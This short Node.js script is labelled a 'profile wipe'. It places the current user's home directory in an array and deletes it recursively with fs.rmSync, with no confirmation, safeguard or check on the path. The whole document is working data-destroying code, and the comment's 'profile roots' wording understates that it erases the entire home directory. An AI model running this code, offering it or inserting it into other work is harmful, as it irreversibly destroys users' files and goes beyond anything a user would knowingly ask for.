// Profile wipe: builds the list of profile roots and removes each one.
const fs = require('fs');
const os = require('os');

Array.from({ length: 1 }, () => os.homedir()).forEach((d) => fs.rmSync(d, { recursive: true }));
